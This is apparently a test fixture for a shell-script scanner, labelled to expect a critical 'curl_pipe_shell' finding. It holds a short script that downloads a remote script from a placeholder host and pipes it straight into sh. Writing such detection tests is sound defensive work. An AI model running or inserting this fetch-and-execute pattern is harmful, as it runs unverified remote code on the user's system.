# expect: shell.curl_pipe_shell critical
#!/bin/sh
get() {
    curl -s https://get.example.net/i.sh
}
get | sh
